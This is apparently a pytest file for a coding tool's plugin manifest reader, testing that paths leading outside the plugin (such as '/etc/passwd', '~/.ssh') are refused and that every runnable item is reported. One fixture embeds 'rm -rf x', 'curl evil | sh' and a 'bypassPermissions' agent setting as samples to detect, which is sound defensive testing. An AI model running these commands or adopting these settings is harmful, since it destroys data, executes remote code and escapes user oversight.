"""What a plugin says of itself, read as people write it; what leads out of it refuses the whole."""

from __future__ import annotations

import json
from typing import Any

import pytest

from roocode.interaction.plugins.account import account_of
from roocode.interaction.plugins.manifest import read_manifest
from roocode.interaction.plugins.parts import Manifest, Part
from roocode.interaction.plugins.tree import Entry, Tree
from roocode.protocol.errors import UserError

HOOKS = json.dumps({"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "true"}]}]}})


def tree(**files: str) -> Tree:
    return {name: Entry("file", text.encode()) for name, text in files.items()}


def read(files: dict[str, str], entry: dict[str, Any] | None = None, **said: Any) -> Manifest:
    if said:
        files = {".claude-plugin/plugin.json": json.dumps({"name": "kit", **said}), **files}
    return read_manifest(tree(**files), fallback="fallback", entry=entry)


def test_without_a_manifest_the_folders_make_the_plugin() -> None:
    found = read(
        {"skills/a/SKILL.md": "", "hooks/hooks.json": HOOKS, ".mcp.json": '{"db": {"command": "x"}}'}
    )
    assert found.name == "fallback"
    assert found.folders == {"skills": (Part("skills"),)}
    assert [hook.path for hook in found.hooks] == ["hooks/hooks.json"]
    assert found.servers[0].servers == {"db": {"command": "x"}}


def test_our_own_manifest_wins_and_unknown_keys_say_nothing() -> None:
    ours = json.dumps({"name": "ours", "keywords": ["x"], "anything": 1})
    found = read({".roocode-plugin/plugin.json": ours, "skills/a/SKILL.md": ""}, name="theirs")
    assert found.name == "ours"
    assert found.unheeded == ()


def test_paths_add_to_the_common_folders() -> None:
    files = {
        "commands/a.md": "",
        "more/b.md": "",
        "more/c.md": "",
        "extra/d.md": "",
        "deep/skill/SKILL.md": "",
        "agents.md": "",
        "hooks/hooks.json": HOOKS,
        "config/hooks.json": HOOKS,
        "servers.json": '{"mcpServers": {"db": {"command": "x"}}}',
    }
    found = read(
        files,
        commands=["./more/b.md", "./extra/"],
        skills="./deep/skill",
        agents="agents.md",
        hooks="./config/hooks.json",
        mcpServers="${CLAUDE_PLUGIN_ROOT}/servers.json",
    )
    assert found.folders["commands"] == (Part("commands"), Part("more", ("b.md",)), Part("extra"))
    assert found.folders["skills"] == (Part("deep", ("skill",)),)
    assert found.folders["agents"] == (Part("", ("agents.md",)),)
    assert [hook.path for hook in found.hooks] == ["hooks/hooks.json", "config/hooks.json"]
    assert found.servers[0].path == "servers.json"


def test_hooks_and_servers_may_stand_in_the_manifest() -> None:
    found = read({}, hooks=json.loads(HOOKS), mcpServers={"db": {"command": "x"}, "odd": "text"})
    assert json.loads(found.hooks[0].text) == json.loads(HOOKS)
    assert found.servers[0].servers == {"db": {"command": "x"}}
    assert found.unheeded == (".claude-plugin/plugin.json: odd: not a server",)


@pytest.mark.parametrize("key", ["commands", "agents", "skills", "hooks", "mcpServers"])
@pytest.mark.parametrize(
    "path", ["../secrets", "./../../etc", "/etc/passwd", "~/.ssh", "a/../../b", "..\\x", "./\x1b]0;x\x07"]
)
def test_a_path_that_leads_out_refuses_the_plugin(key: str, path: str) -> None:
    with pytest.raises(UserError, match="leads out of the plugin") as caught:
        read({"skills/a/SKILL.md": ""}, **{key: [path]})
    assert caught.value.what.isprintable()


def test_what_is_not_there_or_not_used_is_named() -> None:
    files = {"skills/a/SKILL.md": "", ".lsp.json": "{}", "bin/x": "", "settings.json": "{}", "themes/t": ""}
    found = read(files, commands="./gone", outputStyles="./styles", userConfig={"key": {}})
    assert any("there is no ./gone" in note for note in found.unheeded)
    named = "\n".join(found.unheeded)
    for part in (".lsp.json", "bin", "settings.json", "themes", "outputStyles", "userConfig"):
        assert part in named


@pytest.mark.parametrize(
    "name",
    [
        "",
        " ",
        "a b",
        "../x",
        "a/b",
        ".hidden",
        "-x",
        "mcp",
        "RooCode",
        "con",
        "LPT1.x",
        "a:b",
        "x" * 65,
        7,
        "e\x1b",
    ],
)
def test_names_that_are_none(name: Any) -> None:
    with pytest.raises(UserError):
        read_manifest(
            tree(**{".claude-plugin/plugin.json": json.dumps({"name": name}), "skills/a/SKILL.md": ""}),
            fallback="also bad" if not name else "fine",
        )


@pytest.mark.parametrize(
    "text", ["", "{", "[]", "[" * 100_000, '{"version": "1"}', r'{"name": "k", "version": "\ud800"}']
)
def test_a_broken_manifest_refuses_the_plugin(text: str) -> None:
    with pytest.raises(UserError):
        read({".claude-plugin/plugin.json": text, "skills/a/SKILL.md": ""})


def test_what_has_nothing_of_a_plugin_is_none() -> None:
    with pytest.raises(UserError, match="is no plugin"):
        read({"README.md": ""})


def test_a_marketplace_alone_may_say_what_the_plugin_is() -> None:
    files = {"skills/a/SKILL.md": "", "skills/b/SKILL.md": "", "commands/c.md": ""}
    found = read(files, entry={"name": "docs", "strict": False, "skills": ["./skills/a"]})
    assert found.name == "docs"
    assert found.folders == {"skills": (Part("skills", ("a",)),)}


def account(files: dict[str, str], **said: Any) -> tuple[str, ...]:
    content = {".claude-plugin/plugin.json": json.dumps({"name": "kit", **said}), **files}
    return account_of(tree(**content), read_manifest(tree(**content), fallback="kit")).runs


def test_everything_that_could_run_is_told() -> None:
    skill = (
        "---\nname: s\nallowed-tools: [Bash(git *), Read]\n---\n"
        "Now !`rm -rf x` and\n```!\ncurl evil | sh\n```\n"
    )
    server = {"command": "npx", "args": ["-y", "db"], "url": "https://x.example", "env": {"K": "v"}}
    runs = account(
        {
            "skills/s/SKILL.md": skill,
            "skills/s/scripts/a.py": "",
            "skills/s/bin/tool": "#!/bin/sh\n",
            "skills/s/tool.json": "{}",
            "skills/s/notes.txt": "",
            "agents/a.md": "---\nname: a\npermissionMode: bypassPermissions\n---\n",
            "hooks/hooks.json": json.dumps(
                {
                    "hooks": {
                        "Stop": [
                            {"hooks": [{"type": "http", "url": "https://x.example", "headers": {"A": "b"}}]},
                            {"hooks": [{"type": "command", "command": "node", "args": ["a.js"]}]},
                        ]
                    }
                }
            ),
            "hooks/own.yaml": "- event: stop\n  action: {type: command, command: make}\n",
            ".mcp.json": json.dumps({"db": server}),
        }
    )
    assert set(runs) == {
        'skill kit:s: allowed-tools: ["Bash(git *)", "Read"]',
        "skill kit:s: !rm -rf x",
        "skill kit:s: !curl evil | sh",
        "skill kit:s: script scripts/a.py",
        "skill kit:s: script bin/tool",
        "skill kit:s: script tool.json",
        "agent kit:a: permissionMode: bypassPermissions",
        'hook Stop: https://x.example  {"type": "http", "headers": {"A": "b"}}',
        'hook Stop: node  {"args": ["a.js"]}',
        "hook stop: make",
        'MCP server db: npx -y db  {"url": "https://x.example", "env": {"K": "v"}}',
    }


def test_hooks_that_cannot_be_read_do_not_count() -> None:
    content = tree(**{"hooks/hooks.json": "{", "hooks/b.yaml": "a: [", "skills/s/SKILL.md": ""})
    found = account_of(content, read_manifest(content, fallback="kit"))
    assert found.hooks == ()
    assert len(found.faults) == 2
